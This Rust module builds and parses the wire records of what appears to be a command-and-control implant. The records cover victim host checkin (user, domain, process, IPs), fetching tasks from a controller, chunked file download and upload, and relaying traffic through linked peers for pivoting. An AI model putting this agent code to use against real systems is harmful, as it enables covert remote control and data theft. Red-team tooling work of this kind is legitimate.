//! Typed builders and parsers for every record on the wire
//!
//! Outbound records are built into [`Message`]s ready for the outbound
//! queue. Inbound replies are parsed through a [`Cursor`] and borrow from
//! the reply buffer; anything that must outlive the buffer is copied by
//! the caller.

use crate::wire::{ack, kind, status};
use crate::{Cursor, FileId, Message, ProtocolError, SessionId, TaskId, WireId, ID_LEN};
use std::net::Ipv4Addr;

/// Host identity reported at checkin
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CheckinInfo {
    /// Local IPv4 addresses
    pub ips: Vec<Ipv4Addr>,
    /// Operating system description
    pub os: String,
    /// Architecture code: 0x64, 0x86 or 0 when unknown
    pub arch: u8,
    /// Host name
    pub hostname: String,
    /// User the agent runs as
    pub user: String,
    /// Domain or workgroup, sent as UTF-16LE
    pub domain: String,
    /// Process id
    pub pid: u32,
    /// Process image name
    pub process: String,
    /// Externally visible address, if known
    pub external_ip: String,
}

/// Build the checkin request.
///
/// Addresses use the legacy little-endian layout, so the octets land on
/// the wire in dotted order.
pub fn checkin(payload: &WireId, info: &CheckinInfo) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_session(payload, kind::CHECKIN)?;
    let count = u32::try_from(info.ips.len()).map_err(|_| ProtocolError::FieldTooLarge {
        size: info.ips.len(),
    })?;
    msg.add_u32(count)?;
    for ip in &info.ips {
        msg.add_u32_le(u32::from_le_bytes(ip.octets()))?;
    }
    msg.add_sized_str(&info.os)?
        .add_u8(info.arch)?
        .add_sized_str(&info.hostname)?
        .add_sized_str(&info.user)?
        .add_sized_wstr(&info.domain)?
        .add_u32(info.pid)?
        .add_sized_str(&info.process)?
        .add_sized_str(&info.external_ip)?;
    Ok(msg)
}

/// Build a request for up to `count` new tasks
pub fn get_tasking(session: &SessionId, count: u32) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_session(session, kind::GET_TASKING)?;
    msg.add_u32(count)?;
    Ok(msg)
}

/// Start a batch of queued records
pub fn batch(session: &SessionId) -> Result<Message, ProtocolError> {
    Message::with_session(session, kind::POST_RESPONSE)
}

/// Final successful result of a task
pub fn completion(task: &TaskId, output: &[u8]) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::POST_RESPONSE)?;
    msg.add_id(task)?.add_sized_bytes(output)?.add_u8(status::COMPLETE)?;
    Ok(msg)
}

/// Intermediate output of a task that is still running
pub fn progress(task: &TaskId, text: &str) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::POST_RESPONSE)?;
    msg.add_id(task)?.add_sized_str(text)?.add_u8(status::PROCESSING)?;
    Ok(msg)
}

/// Failed result of a task carrying a numeric error code
pub fn error(task: &TaskId, code: u32) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::POST_RESPONSE)?;
    msg.add_id(task)?.add_u32(code)?.add_u8(status::FAILED)?;
    Ok(msg)
}

/// Announce a download so the controller can assign a file id
pub fn download_init(
    task: &TaskId,
    total_chunks: u32,
    path: &str,
    chunk_size: u32,
) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::DOWNLOAD_INIT)?;
    msg.add_id(task)?
        .add_u32(total_chunks)?
        .add_sized_str(path)?
        .add_u32(chunk_size)?;
    Ok(msg)
}

/// One chunk of a download
pub fn download_chunk(
    task: &TaskId,
    index: u32,
    file: &FileId,
    bytes: &[u8],
) -> Result<Message, ProtocolError> {
    let len = u32::try_from(bytes.len()).map_err(|_| ProtocolError::FieldTooLarge { size: bytes.len() })?;
    let mut msg = Message::with_kind(kind::DOWNLOAD_CONTINUE)?;
    msg.add_id(task)?
        .add_u32(index)?
        .add_id(file)?
        .add_sized_bytes(bytes)?
        .add_u32(len)?;
    Ok(msg)
}

/// Ask the controller for one chunk of an upload
pub fn upload_request(
    task: &TaskId,
    chunk: u32,
    file: &FileId,
    path: &str,
    chunk_size: u32,
) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::UPLOAD_CHUNKED)?;
    msg.add_id(task)?
        .add_u32(chunk)?
        .add_id(file)?
        .add_sized_str(path)?
        .add_u32(chunk_size)?;
    Ok(msg)
}

/// A peer finished its link handshake; `handshake` excludes the link id
pub fn link_established(
    task: &TaskId,
    status: u32,
    link_id: u32,
    handshake: &[u8],
) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::P2P_CHECKIN)?;
    msg.add_id(task)?
        .add_u32(status)?
        .add_u32(link_id)?
        .add_sized_bytes(handshake)?;
    Ok(msg)
}

/// Bytes read from a peer, tagged with the peer's session
pub fn delegate(peer: &SessionId, message: &[u8]) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::P2P_MSG)?;
    msg.add_id(peer)?.add_sized_bytes(message)?;
    Ok(msg)
}

/// A link was dropped; `peer` is empty when it never synced
pub fn unlink_notice(link_id: u32, peer: Option<&SessionId>) -> Result<Message, ProtocolError> {
    let mut msg = Message::with_kind(kind::P2P_UNLINK)?;
    msg.add_u32(link_id)?;
    match peer {
        Some(peer) => msg.add_sized_bytes(peer.as_bytes())?,
        None => msg.add_sized_bytes(&[])?,
    };
    Ok(msg)
}

/// Parse a checkin reply and return the session id it assigns
pub fn parse_checkin_reply(reply: &[u8]) -> Result<SessionId, ProtocolError> {
    let mut cursor = Cursor::new(reply);
    let record = cursor.read_u8()?;
    if record != kind::CHECKIN {
        return Err(ProtocolError::UnknownRecord(record));
    }
    let session = cursor.read_id()?;
    match cursor.read_u8()? {
        1 => Ok(session),
        other => Err(ProtocolError::CheckinRejected(other)),
    }
}

/// Bytes travelling to or from a pivoted peer
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Delegate<'a> {
    /// Set when the controller is answering the peer's link checkin
    pub link_id: Option<u32>,
    /// Peer session the bytes belong to
    pub peer: SessionId,
    /// Opaque payload
    pub message: &'a [u8],
}

impl<'a> Delegate<'a> {
    fn read(cursor: &mut Cursor<'a>, link_id: Option<u32>) -> Result<Self, ProtocolError> {
        let peer = cursor.read_sized_id()?;
        let message = cursor.read_sized_bytes()?;
        Ok(Self { link_id, peer, message })
    }
}

/// One task inside a tasking reply
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TaskRecord<'a> {
    /// Command identifier
    pub command: u8,
    /// Controller task id
    pub task: TaskId,
    /// Argument bytes, scoped to this task
    pub args: &'a [u8],
}

impl<'a> TaskRecord<'a> {
    const HEADER_LEN: usize = 1 + ID_LEN;

    /// Decode one `[u32 total][u8 cmd][id36][args]` record.
    ///
    /// The cursor only advances when the whole record decodes.
    pub fn read(cursor: &mut Cursor<'a>) -> Result<Self, ProtocolError> {
        let mut ahead = cursor.clone();
        let total = ahead.read_u32()? as usize;
        if total < Self::HEADER_LEN {
            return Err(ProtocolError::MalformedRecord("task record shorter than its header"));
        }
        if ahead.remaining() < total {
            return Err(ProtocolError::TruncatedInput {
                needed: total,
                remaining: ahead.remaining(),
            });
        }
        let command = ahead.read_u8()?;
        let task = ahead.read_id()?;
        let args = ahead.read_bytes(total - Self::HEADER_LEN)?;
        *cursor = ahead;
        Ok(Self { command, task, args })
    }

    /// Encode a task record as the controller would
    pub fn encode(&self) -> Result<Message, ProtocolError> {
        let total = Self::HEADER_LEN + self.args.len();
        let total = u32::try_from(total).map_err(|_| ProtocolError::FieldTooLarge { size: total })?;
        let mut msg = Message::new();
        msg.add_u32(total)?
            .add_u8(self.command)?
            .add_id(&self.task)?
            .add_bytes(self.args)?;
        Ok(msg)
    }
}

/// Iterator over the task records of a tasking reply.
///
/// Yields at most the declared count. After the first malformed record it
/// yields that error once and then stops, since later records can no
/// longer be located.
#[derive(Debug, Clone)]
pub struct TaskRecords<'a> {
    cursor: Cursor<'a>,
    left: u32,
    failed: bool,
}

impl<'a> Iterator for TaskRecords<'a> {
    type Item = Result<TaskRecord<'a>, ProtocolError>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.left == 0 || self.failed {
            return None;
        }
        self.left -= 1;
        let record = TaskRecord::read(&mut self.cursor);
        self.failed = record.is_err();
        Some(record)
    }
}

/// Parsed reply to a get-tasking request
#[derive(Debug, Clone)]
pub struct TaskingReply<'a> {
    /// Messages for pivoted peers, to forward before running tasks
    pub delegates: Vec<Delegate<'a>>,
    /// Tasks to dispatch, in order
    pub tasks: TaskRecords<'a>,
}

impl<'a> TaskingReply<'a> {
    /// Parse `u8 has_delegates [u32 n (lp peer lp msg)*n] 0x00 u32 count tasks*`
    pub fn parse(reply: &'a [u8]) -> Result<Self, ProtocolError> {
        let mut cursor = Cursor::new(reply);
        let mut delegates = Vec::new();
        if cursor.read_u8()? != 0 {
            let count = cursor.read_u32()?;
            for _ in 0..count {
                delegates.push(Delegate::read(&mut cursor, None)?);
            }
        }
        let record = cursor.read_u8()?;
        if record != kind::GET_TASKING {
            return Err(ProtocolError::UnknownRecord(record));
        }
        let left = cursor.read_u32()?;
        Ok(Self {
            delegates,
            tasks: TaskRecords {
                cursor,
                left,
                failed: false,
            },
        })
    }
}

/// Follow-up instruction carried by one acknowledgement
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Ack<'a> {
    /// Nothing further to do
    Normal,
    /// The controller assigned a file id to a download
    Download {
        /// Download task
        task: TaskId,
        /// Assigned file id
        file: FileId,
    },
    /// One chunk of an upload
    Upload {
        /// Upload task
        task: TaskId,
        /// Total chunk count
        total: u32,
        /// Index of this chunk, starting at 1
        current: u32,
        /// Chunk payload
        chunk: &'a [u8],
    },
    /// Bytes for a pivoted peer
    Delegate(Delegate<'a>),
}

/// One entry of an acknowledgement batch
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AckEntry<'a> {
    /// Whether the controller accepted the matching record
    pub ok: bool,
    /// Follow-up instruction
    pub ack: Ack<'a>,
}

impl<'a> AckEntry<'a> {
    fn read(cursor: &mut Cursor<'a>) -> Result<Self, ProtocolError> {
        let ok = cursor.read_u8()? == 1;
        let ack = match cursor.read_u8()? {
            ack::NORMAL => Ack::Normal,
            ack::DOWNLOAD => Ack::Download {
                task: cursor.read_id()?,
                file: cursor.read_id()?,
            },
            ack::UPLOAD => Ack::Upload {
                task: cursor.read_id()?,
                total: cursor.read_u32()?,
                current: cursor.read_u32()?,
                chunk: cursor.read_sized_bytes()?,
            },
            ack::DELEGATE => {
                let link_id = if cursor.read_u8()? != 0 {
                    Some(cursor.read_u32()?)
                } else {
                    None
                };
                Ack::Delegate(Delegate::read(cursor, link_id)?)
            }
            other => return Err(ProtocolError::UnknownRecord(other)),
        };
        Ok(Self { ok, ack })
    }
}

/// Iterator over the entries of an acknowledgement batch.
///
/// Stops after the first malformed entry, yielding its error once.
#[derive(Debug, Clone)]
pub struct AckBatch<'a> {
    cursor: Cursor<'a>,
    failed: bool,
}

impl<'a> AckBatch<'a> {
    /// Parse the batch header; entries are decoded lazily
    pub fn parse(reply: &'a [u8]) -> Result<Self, ProtocolError> {
        let mut cursor = Cursor::new(reply);
        let record = cursor.read_u8()?;
        if record != kind::POST_RESPONSE {
            return Err(ProtocolError::UnknownRecord(record));
        }
        Ok(Self { cursor, failed: false })
    }
}

impl<'a> Iterator for AckBatch<'a> {
    type Item = Result<AckEntry<'a>, ProtocolError>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.failed || self.cursor.is_empty() {
            return None;
        }
        let entry = AckEntry::read(&mut self.cursor);
        self.failed = entry.is_err();
        Some(entry)
    }
}
